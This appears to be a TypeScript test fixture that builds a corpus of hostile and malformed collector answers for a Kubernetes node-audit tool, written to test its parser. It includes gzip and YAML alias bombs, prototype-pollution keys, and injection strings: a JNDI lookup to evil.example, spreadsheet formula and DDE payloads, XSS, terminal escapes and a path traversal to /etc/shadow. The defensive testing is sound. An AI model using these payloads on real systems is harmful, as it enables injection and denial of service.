/**
 * What hostile, broken and strange nodes answer, each with a description and with what has to become of it: a
 * `bad-answer`, a `judged` row, or either. Written as data, so that a reader sees what is hostile about each.
 * Tested by test/hostile/corpus.test.ts. Long because it is one table of data.
 */
import { createHash } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { answer, CONFIG, type Parts, text } from './answer.ts';
import { envelope } from './envelope.ts';

export type Hostile = { name: string; output: string; becomes: 'bad-answer' | 'judged' | 'no-kubelet' | 'either' };

const good = answer();
const [mark = '', size = '', digest = '', base64 = ''] = good.trimEnd().split(' ');
const packed = Buffer.from(base64, 'base64');
const line = (...fields: string[]) => `${fields.join(' ')}\n`;
const sha256 = (bytes: string | Buffer) => createHash('sha256').update(bytes).digest('hex');
const flipped = (bytes: Buffer, at: number) =>
  Buffer.from(bytes.map((byte, index) => (index === at ? byte ^ 255 : byte)));
/** What Bottlerocket's API says, with more below settings.kubernetes. */
const settings = (given: string) =>
  `process kubelet 0\nsettings\n|{"os": {"version_id": "1.50.0", "variant_id": "aws-k8s-1.34"}, "settings": {"kubernetes": {${given}}}}\n`;
const repacked = (bytes: Buffer) => envelope(text(), { packed: bytes });

/** Envelopes: every one of them a bad answer, but for those that say otherwise. */
const ENVELOPES: Record<string, string | [string, Hostile['becomes']]> = {
  'nothing at all': '',
  'white space': ' \n\t\r\n ',
  'NUL bytes': '\0'.repeat(2000),
  'prose instead of an answer': 'command not found: sh\n',
  'another version of the format': line('kubevigil/2', size, digest, base64),
  'the mark alone': 'kubevigil/1 ',
  'no digest and no text': line(mark, size),
  'no text': line(mark, size, digest),
  'a field too many': line(mark, size, digest, base64, 'more'),
  'a negative length': line(mark, `-${size}`, digest, base64),
  'a length in hexadecimal': line(mark, '0x10', digest, base64),
  'a length with a fraction': line(mark, `${size}.0`, digest, base64),
  'a length of a hundred digits': line(mark, '9'.repeat(100), digest, base64),
  'a length of a gigabyte': line(mark, '999999999', digest, base64),
  'a length one too short': line(mark, String(Number(size) - 1), digest, base64),
  'a length one too long': line(mark, String(Number(size) + 1), digest, base64),
  'a length of nothing': line(mark, '0', digest, base64),
  'the digest of something else': line(mark, size, sha256('something else'), base64),
  'a digest in capitals': line(mark, size, digest.toUpperCase(), base64),
  'a digest that is cut': line(mark, size, digest.slice(0, 63), base64),
  'a digest of zeros': line(mark, size, '0'.repeat(64), base64),
  'the digest of the packed bytes': line(mark, size, sha256(packed), base64),
  'text cut by one character': line(mark, size, digest, base64.slice(0, -1)),
  'text cut by four characters': line(mark, size, digest, base64.slice(0, -4)),
  'text cut in the middle': line(mark, size, digest, base64.slice(0, base64.length / 2)),
  'only the first character of the text': line(mark, size, digest, base64.slice(0, 1)),
  'text without its first character': line(mark, size, digest, base64.slice(1)),
  'text with a character that base64 has not': line(mark, size, digest, `${base64.slice(0, 20)}!${base64.slice(21)}`),
  'text with a space in it': line(mark, size, digest, `${base64.slice(0, 20)} ${base64.slice(21)}`),
  'text with a line break in it': line(mark, size, digest, `${base64.slice(0, 76)}\n${base64.slice(76)}`),
  'text with padding in its middle': line(mark, size, digest, `${base64.slice(0, 20)}==${base64.slice(22)}`),
  'text in the URL alphabet of base64': line(mark, size, digest, `-_${base64.slice(2)}`),
  'the service’s mark of a cut output': `${good.slice(0, 500)}\n---Output truncated---`,
  'the agent’s mark of a cut output': `${good.slice(0, good.length / 2)}--output truncated--`,
  'an answer that is longer than any service carries': line(mark, size, digest, base64.repeat(40)),
  'a gzip header and nothing else': repacked(packed.subarray(0, 10)),
  'gzip without its last byte': repacked(packed.subarray(0, -1)),
  'gzip without its checksum': repacked(packed.subarray(0, -8)),
  'gzip with a wrong checksum': repacked(flipped(packed, packed.length - 8)),
  'gzip with a wrong length': repacked(flipped(packed, packed.length - 1)),
  'gzip with a broken block': repacked(flipped(packed, 30)),
  'gzip of an unknown method': repacked(flipped(packed, 2)),
  'two gzip members, of which the second is too much': repacked(Buffer.concat([packed, gzipSync('more')])),
  'zlib instead of gzip': repacked(deflateSync(text())),
  'raw deflate instead of gzip': repacked(deflateRawSync(text())),
  'gzip within gzip': repacked(gzipSync(packed)),
  'a bomb of 16 MB that says so': line(
    mark,
    String(16 * 2 ** 20),
    digest,
    gzipSync(Buffer.alloc(16 * 2 ** 20)).toString('base64'),
  ),
  'a bomb of 10 MB that says one kilobyte': line(
    mark,
    '1024',
    digest,
    gzipSync(Buffer.alloc(10 * 2 ** 20)).toString('base64'),
  ),
  'a bomb of bombs': line(mark, '1000', digest, gzipSync(gzipSync(Buffer.alloc(10 * 2 ** 20))).toString('base64')),
  'half a megabyte of NUL bytes in a right envelope': envelope('\0'.repeat(2 ** 19)),
  'an answer within an answer': envelope(good),
  'the mark in the middle of a line': `x${good}`,
  'text that is not packed': [envelope(text(), { packed: Buffer.from(text()) }), 'judged'],
  'a carriage return at its end': [good.replace('\n', '\r\n'), 'judged'],
  'no line break at its end': [good.trimEnd(), 'judged'],
  'noise before it': [`warning: something\n${good}`, 'judged'],
  'noise behind it': [`${good}bye\n`, 'judged'],
  'two answers, of which the last counts': [good + answer({ config: 'rotateCertificates: false\n' }), 'judged'],
  'a right answer and then a broken one': good + line(mark, size, '0'.repeat(64), base64),
  'an empty text in a right envelope': [envelope(''), 'no-kubelet'],
};

const many = (count: number, of: (index: number) => string, separator = '\n') =>
  Array.from({ length: count }, (_, index) => of(index)).join(separator);
const process = (pid: string | number, kind = 'kubelet') => `process ${kind} ${pid}`;
const file = (fields: string) => `file config file ${fields}`;

/** Records: what stands in the text. */
const RECORDS: Record<string, [string, Hostile['becomes']]> = {
  'process 0 without settings': ['process kubelet 0\narg --anonymous-auth=false\n', 'judged'],
  'settings with a number that JSON does not keep': [settings('"pod-pids-limit": 1e999'), 'judged'],
  'settings with a list that is long': [
    settings(`"allowed-unsafe-sysctls": ["${Array(5000).fill('net.*').join('","')}"]`),
    'judged',
  ],
  'an unknown record': [text({ after: 'verdict pass' }), 'bad-answer'],
  'an unknown record before any process': ['verdict pass\n', 'bad-answer'],
  'a record named like a property of all objects': [text({ after: '__proto__ x' }), 'bad-answer'],
  'a record named constructor': ['constructor x\n', 'bad-answer'],
  'content without a file': ['process kubelet 1\ncontent\n|x\n', 'bad-answer'],
  'a line behind a bar without a record': ['|rotateCertificates: true\n', 'bad-answer'],
  'a file without a process': ['file config file 600 0 0 1 1 - /c\n', 'bad-answer'],
  'a problem without a certificate': ['process kubelet 1\nproblem none\n', 'bad-answer'],
  'a process of an unknown kind': [`${process(1, 'init')}\n`, 'bad-answer'],
  'a process kind named __proto__': [`${process(1, '__proto__')}\n`, 'bad-answer'],
  'a process without an id': [`${process('')}\n`, 'bad-answer'],
  'a process with a negative id': [`${process(-1)}\n`, 'bad-answer'],
  'a process id of twenty digits': [`${process('9'.repeat(20))}\n`, 'bad-answer'],
  'a process id that is no number': [`${process('NaN')}\n`, 'bad-answer'],
  'a time that is no number': ['time now\n', 'bad-answer'],
  'a time that is negative': ['time -5\n', 'bad-answer'],
  'a time far in the future': [text().replace('1764000000', '999999999999999'), 'judged'],
  'a start that is a word': [text().replace('1763990000 1.01', 'yesterday'), 'bad-answer'],
  'a start that is no number': [text().replace('started 1763990000', 'started yesterday'), 'bad-answer'],
  'a role that does not exist': [text({ after: 'file secret file 600 0 0 1 1 - /c' }), 'bad-answer'],
  'a role named constructor': [text({ after: 'file constructor file 600 0 0 1 1 - /c' }), 'bad-answer'],
  'a state that does not exist': [text({ after: 'file config open 600 0 0 1 1 - /c' }), 'bad-answer'],
  'a file without a path': [text({ after: file('600 0 0 1 1 -') }), 'bad-answer'],
  'a mode that is no octal number': [text().replace('file config file 600', 'file config file 9x9'), 'judged'],
  'a mode of all bits': [text().replace('file config file 600', 'file config file 77777'), 'judged'],
  'an owner that is no number': [text().replace('600 0 0 500', '600 root root 500'), 'judged'],
  'a size beyond all disks': [text().replace('600 0 0 500', '600 0 0 999999999999999'), 'judged'],
  'a directory in no state': [text({ after: 'dir open /d' }), 'bad-answer'],
  'a flag on a line that is no number': [text({ after: 'flag x rotate-certificates' }), 'either'],
  'twenty processes': [text({ before: many(19, process) }), 'judged'],
  'twenty-one processes': [text({ before: many(20, process) }), 'bad-answer'],
  'ten thousand processes': [many(10_000, process), 'bad-answer'],
  'five hundred files': [text({ after: many(498, (index) => file(`600 0 0 1 1 - /d/${index}`)) }), 'judged'],
  'five hundred and one files': [
    text({ after: many(499, (index) => file(`600 0 0 1 1 - /d/${index}`)) }),
    'bad-answer',
  ],
  'eleven thousand lines': [text({ after: many(11_000, () => 'note x') }), 'bad-answer'],
  'nine thousand notes': [text({ before: many(9_000, () => 'note x') }), 'judged'],
  'a note of 120 KB': [text({ before: `note ${'x'.repeat(120_000)}` }), 'judged'],
  'a note of 500 KB': [text({ before: `note ${'x'.repeat(500_000)}` }), 'bad-answer'],
  'notes alone': [many(1_000, (index) => `note ${index}`), 'no-kubelet'],
  'an argument list of 100,000 entries': [text({ args: new Array<string>(100_000).fill('--v=2') }), 'bad-answer'],
  'an argument list of 9,000 entries': [text({ args: new Array<string>(9_000).fill('--v=2') }), 'judged'],
  'nine thousand empty arguments': [text({ args: new Array<string>(9_000).fill('') }), 'judged'],
  'an argument of 140 KB': [text({ args: [`--node-labels=${'x'.repeat(140_000)}`] }), 'bad-answer'],
  'a list of 4,000 gates': [
    text({ args: [`--feature-gates=${many(4_000, (index) => `G${index}=true`, ',')}`] }),
    'judged',
  ],
  'a gate named __proto__': [text({ args: ['--feature-gates=__proto__=true,constructor=false'] }), 'judged'],
  'an argument named __proto__': [text({ args: ['--__proto__=x', '--constructor'] }), 'judged'],
  'a thousand times --config': [text({ args: new Array<string>(1000).fill('--config=/etc/passwd') }), 'judged'],
  'a thousand directories': [text({ args: many(1000, (index) => `--config-dir=/d${index}`).split('\n') }), 'judged'],
  'the same process twice, with two opinions': [
    `${text()}${text({ config: 'rotateCertificates: false\n' })}`,
    'judged',
  ],
  'two configurations at one path': [
    `${text()}file config file 600 0 0 1 1 - /var/lib/kubelet/config.yaml\ncontent\n|x: y\n`,
    'judged',
  ],
  'a path of slashes and dots': [text({ path: `/${'../'.repeat(10_000)}etc/passwd` }), 'judged'],
  'a path of 70 KB': [text({ path: `/${'x'.repeat(70_000)}` }), 'judged'],
  'line separators that are not line breaks': [
    text({ before: 'note a\u2028process kubelet 1\u2029b\u0085c' }),
    'judged',
  ],
  'carriage returns between records': [text().replaceAll('\n', '\r\n'), 'either'],
  'a byte order mark': [`\ufeff${text()}`, 'either'],
  'UTF-16': [Buffer.from(text(), 'utf16le').toString('latin1'), 'bad-answer'],
  'a certificate of nine thousand lines': [text({ certificate: 'issuer x\n'.repeat(9_000) }), 'judged'],
  'a certificate that is none': [text({ certificate: 'problem its certificate is damaged' }), 'judged'],
  'a thousand certificates': [text({ after: many(1000, () => 'certificate client-ca /c\nto 1') }), 'bad-answer'],
  'a certificate that ends in the year 999999': [text({ certificate: 'from 1759276800\nto 31494784780800' }), 'judged'],
  'a certificate with impossible dates': [text({ certificate: 'from never\nto __proto__' }), 'bad-answer'],
  'a certificate of another use': [text({ after: 'certificate constructor /c\nto 1' }), 'bad-answer'],
  'a certificate of a thousand names': [text({ certificate: many(1000, () => 'name DNS:x') }), 'bad-answer'],
  'an authority without end': [text({ after: `certificate authority /c\nsubject ${'x'.repeat(60_000)}` }), 'judged'],
  'a certificate that ends before it begins': [text({ certificate: 'from 1917043200\nto 1601510400' }), 'judged'],
  'a kubeconfig with three thousand users': [
    text({
      after: `file kubeconfig file 600 0 0 1 1 - /k\ncontent\n|current-context: "c"\n|users:\n${many(3_000, (index) => `|- name: "u${index}"`)}`,
    }),
    'judged',
  ],
  'a kubeconfig with keys of all objects': [
    text({
      after:
        'file kubeconfig file 600 0 0 1 1 - /k\ncontent\n|__proto__:\n|  user: "x"\n|constructor: "y"\n|current-context: "__proto__"',
    }),
    'judged',
  ],
  'a kubeconfig in JSON that nests deeply': [
    text({ after: `file kubeconfig file 600 0 0 1 1 - /k\ncontent\n|${'['.repeat(50_000)}` }),
    'judged',
  ],
  'a kubeconfig in JSON with a thousand users': [
    text({
      after: `file kubeconfig file 600 0 0 1 1 - /k\ncontent\n|{"users":[${many(1000, () => '{"user":{"token":"REDACTED"}}', ',')}]}`,
    }),
    'judged',
  ],
  'a kubeconfig of aliases': [
    text({ after: 'file kubeconfig file 600 0 0 1 1 - /k\nwithheld a sign that takes a parser (line 3)' }),
    'judged',
  ],
  'a kubeconfig that nests deeply': [
    text({ after: `file kubeconfig file 600 0 0 1 1 - /k\ncontent\n|${'['.repeat(50_000)}` }),
    'judged',
  ],
  'a kubeconfig that is an alias bomb': [
    text({
      after: `file kubeconfig file 600 0 0 1 1 - /k\ncontent\n${many(9, (index) => `|a${index}: &a${index} [${many(9, () => (index ? `*a${index - 1}` : 'x'), ',')}]`)}`,
    }),
    'judged',
  ],
};

const bomb = many(12, (index) => `a${index}: &a${index} [${many(9, () => (index ? `*a${index - 1}` : '"x"'), ', ')}]`);

/** Configuration files. */
const CONFIGS: Record<string, Parts> = {
  'an alias bomb': { config: `${bomb}\n` },
  'an alias of itself': { config: 'a: &a [*a]\n' },
  'merge keys': { config: 'a: &a {rotateCertificates: false}\n<<: *a\n' },
  'ten thousand aliases': { config: `a: &a x\nb: [${many(10_000, () => '*a', ', ')}]\n` },
  'lists nested 100,000 deep': { config: `a: ${'['.repeat(100_000)}\n` },
  'maps nested 50,000 deep': { config: `a: ${'{a: '.repeat(50_000)}\n` },
  'blocks nested a thousand deep': { config: many(1000, (index) => `${' '.repeat(index)}a:`) },
  'JSON nested 100,000 deep': { whole: true, config: `${'{"a":'.repeat(100_000)}1` },
  'JSON arrays nested 100,000 deep': { whole: true, config: `{"a":${'['.repeat(100_000)}` },
  'JSON that is not closed': { whole: true, config: '{"kind":"KubeletConfiguration"' },
  'JSON with a comma too many': { whole: true, config: '{"kind":"KubeletConfiguration",}' },
  'JSON with 4,000 keys': {
    whole: true,
    config: `{"apiVersion":"kubelet.config.k8s.io/v1beta1","kind":"KubeletConfiguration",${many(4_000, (index) => `"k${index}":${index}`, ',')}}`,
  },
  'YAML with 4,000 keys': { config: many(4_000, (index) => `k${index}: ${index}`) },
  'an empty key above 100 KB of blanks': { config: `"": 1\n${' '.repeat(100_000)}\n` },
  'a blank key above 100 KB of blanks': { config: `"   ": 1\n${' '.repeat(100_000)}\n` },
  'blanks around a key above 100 KB of blanks': { config: `"${' '.repeat(200)}a": 1\n${' '.repeat(100_000)}\n` },
  'a key of 40,000 parts': { config: `"${'a.'.repeat(40_000)}a": 1\n` },
  'a key of 100 parts above 6,000 keys': { config: `"${'a.'.repeat(100)}a": 1\nx: {${'a: 1, '.repeat(6_000)}}\n` },
  'a key of 40,000 signs of a pattern': { config: `"${'(a+)+'.repeat(8_000)}": 1\n` },
  'gates without names, or with long ones': {
    config: `featureGates: {"": true, " ": false, "${'g'.repeat(40_000)}": true, "${'a.'.repeat(10_000)}": true}\n${' '.repeat(50_000)}\n`,
  },
  'the same key 9,000 times': { config: many(9_000, (index) => `rotateCertificates: ${index % 2 === 0}`) },
  'a map named __proto__': { config: '__proto__:\n  rotateCertificates: false\n  polluted: true\n' },
  'JSON with __proto__': {
    whole: true,
    config:
      '{"apiVersion":"kubelet.config.k8s.io/v1beta1","kind":"KubeletConfiguration","__proto__":{"polluted":true,"rotateCertificates":false}}',
  },
  'keys of all objects': {
    config: 'constructor: {prototype: {polluted: true}}\ntoString: 1\nhasOwnProperty: no\nvalueOf: x\n',
  },
  'gates of all objects': { config: 'featureGates: {__proto__: true, constructor: false, toString: true}\n' },
  'a tag that makes code': { config: 'rotateCertificates: !!js/function "function(){throw 1}"\n' },
  'a tag of another language': { config: 'a: !!python/object/apply:os.system ["id"]\n' },
  'binary tags': { config: 'rotateCertificates: !!binary dHJ1ZQ==\n' },
  'a set and an ordered map': { config: 'a: !!set {x, y}\nb: !!omap [x: 1]\n' },
  'a timestamp': { config: 'streamingConnectionIdleTimeout: 2001-12-14t21:59:43.10-05:00\n' },
  'a number beyond all numbers': { config: 'podPidsLimit: 1e999999\n' },
  'an integer beyond 64 bits': { config: 'podPidsLimit: 99999999999999999999999999\n' },
  'not a number': { config: 'readOnlyPort: .nan\neventRecordQPS: .inf\n' },
  'minus zero': { config: 'readOnlyPort: -0\n' },
  'numbers in every base': {
    config:
      'readOnlyPort: 0x2738\npodPidsLimit: 0o17\neventRecordQPS: 0b101\nmaxPods: 1_000\nregistryBurst: 190:20:30\n',
  },
  'a scalar of 120 KB': { config: `clusterDomain: ${'x'.repeat(120_000)}\n` },
  'a key of 120 KB': { config: `${'k'.repeat(120_000)}: 1\n` },
  'a scalar of 60,000 words': { config: `clusterDomain: ${'b '.repeat(60_000)}\n` },
  'fourteen thousand tags in a line': { config: `a: [${many(14_000, () => '!!str a', ',')}]\n` },
  'forty thousand aliases in a line': { config: `a: &a [x]\nb: [${many(40_000, () => '*a', ',')}]\n` },
  'eight thousand merge keys in a line': { config: `a: &a {b: 1}\nx: {${many(8_000, () => '<<: *a', ', ')}}\n` },
  'JSON with the same key 9,000 times': { whole: true, config: `{${many(9_000, () => '"maxPods":1', ',')}}` },
  'JSON with 60,000 numbers': { whole: true, config: `{"x":[${many(60_000, () => '1', ',')}]}` },
  'JSON with 40,000 empty maps': { whole: true, config: `{"reservedMemory":[${many(40_000, () => '{}', ',')}]}` },
  'a duration of 60,000 units': { config: `syncFrequency: ${'1h'.repeat(60_000)}\n` },
  'a number of 120,000 digits': { config: `maxPods: ${'1'.repeat(120_000)}\n` },
  'ten megabytes of comments': { config: `# ${'x'.repeat(10 * 2 ** 20)}\n` },
  'tabs for blanks': { config: 'a:\n\tb: 1\n' },
  'a byte order mark in its middle': { config: 'a: 1\n\ufeffrotateCertificates: false\n' },
  'NUL bytes': { config: 'rotateCertificates: fal\0se\n' },
  'control characters': { config: 'clusterDomain: "a\u0007\u001b[2J\u0008"\n' },
  'many documents': { config: many(5_000, () => '---\nrotateCertificates: false') },
  'a directive of another YAML': { whole: true, config: `%YAML 9.9\n---\n${CONFIG}` },
  'a quote that does not end': { config: 'clusterDomain: "never ends\n' },
  'nothing but a type': { config: '' },
  'nothing at all': { whole: true, config: '' },
  'a list instead of a map': { whole: true, config: '- a\n- b\n' },
  'a word instead of a map': { whole: true, config: 'yes\n' },
  'another kind': { whole: true, config: 'apiVersion: v1\nkind: Secret\ndata: {}\n' },
  'another version': { whole: true, config: 'apiVersion: kubelet.config.k8s.io/v2\nkind: KubeletConfiguration\n' },
  'wrong types everywhere': {
    config: 'rotateCertificates: [true]\nauthentication: yes\nauthorization: 5\nfeatureGates: []\n',
  },
  'booleans of every spelling': { config: 'rotateCertificates: NO\nserverTLSBootstrap: oN\n' },
  'a duration of a thousand years': { config: 'streamingConnectionIdleTimeout: 8760000h\n' },
  'a duration without end': { config: `streamingConnectionIdleTimeout: ${'9'.repeat(1000)}h\n` },
  'four thousand cipher suites': { config: `tlsCipherSuites: [${many(4_000, (index) => `C${index}`, ', ')}]\n` },
};

/** Strings that mean something to whatever shows them. */
const STRINGS: Record<string, string> = {
  'a terminal escape': '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
  'an 8-bit terminal escape': '\u009b2J\u009d0;owned\u009c',
  'a forged log line': 'x\r\n2026-11-23T02:00:00Z INFO all nodes pass',
  'a script': '<script>alert(1)</script>',
  'an image with a handler': '"><img src=x onerror=alert(1)>',
  'a formula': '=HYPERLINK("https://evil.example","open")',
  'a command of a spreadsheet': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a mention in Slack': '<!channel> <@U012AB3CD> <https://evil.example|report>',
  'text that runs backwards': '\u202egnp.exe\u2066x\u2069',
  'invisible text': 'a\u200b\u2060\u{e0041}\ufeffb',
  'half a character': 'x\ud800y\udc00',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is another language's
  'a template': '${jndi:ldap://evil.example/a} {{constructor.constructor("x")()}}',
  'a path out of its folder': '../../../../etc/shadow',
  'a name of all objects': '__proto__',
};

/** Where a string may stand. Line breaks end a record, so they become what the collector makes of them. */
const SLOTS: Record<string, (value: string) => Parts> = {
  'as an argument': (value) => ({ args: [value] }),
  'as the value of a flag': (value) => ({ args: [`--rotate-certificates=${value}`] }),
  'as the host name': (value) => ({ args: [`--hostname-override=${value}`] }),
  'as the path of the configuration': (value) => ({ path: `/etc/${value.replaceAll(/[\r\n]/g, '')}` }),
  'as the program': (value) => ({ exe: value.replaceAll(/[\r\n]/g, '') }),
  'as the working directory': (value) => ({ cwd: value.replaceAll(/[\r\n]/g, '') }),
  'as the version': (value) => ({ version: value.replaceAll(/[\r\n]/g, '') }),
  'as the unit': (value) => ({ unit: value.replaceAll(/[\r\n]/g, '') }),
  'as a note': (value) => ({ before: `note ${value.replaceAll(/[\r\n]/g, '')}` }),
  'as a setting': (value) => ({ config: `authorization:\n  mode: ${JSON.stringify(value)}\n` }),
  'as an unknown setting': (value) => ({ config: `${JSON.stringify(value)}: true\n` }),
  'as a file that a setting names': (value) => ({
    config: `tlsCertFile: ${JSON.stringify(value)}\ntlsPrivateKeyFile: x\n`,
  }),
  'as the command of a kubeconfig': (value) => ({ command: value.replaceAll(/[\r\n"\\]/g, '') }),
  'as the subject of a certificate': (value) => ({
    certificate: `subject CN=${value.replaceAll(/[\r\n]/g, '')}\nfrom 1759276800\nto 1822348800`,
  }),
};

/** Every hostile answer, named by what is hostile about it. */
export const corpus: readonly Hostile[] = [
  ...Object.entries(ENVELOPES).map(([name, given]): Hostile => {
    const [output, becomes] = typeof given === 'string' ? [given, 'bad-answer' as const] : given;
    return { name: `envelope: ${name}`, output, becomes };
  }),
  ...Object.entries(RECORDS).map(
    ([name, [given, becomes]]): Hostile => ({ name: `records: ${name}`, output: envelope(given), becomes }),
  ),
  ...Object.entries(CONFIGS).map(
    ([name, parts]): Hostile => ({ name: `configuration: ${name}`, output: answer(parts), becomes: 'either' }),
  ),
  ...Object.entries(STRINGS).flatMap(([what, value]) =>
    Object.entries(SLOTS).map(
      ([where, parts]): Hostile => ({ name: `${what} ${where}`, output: answer(parts(value)), becomes: 'either' }),
    ),
  ),
];
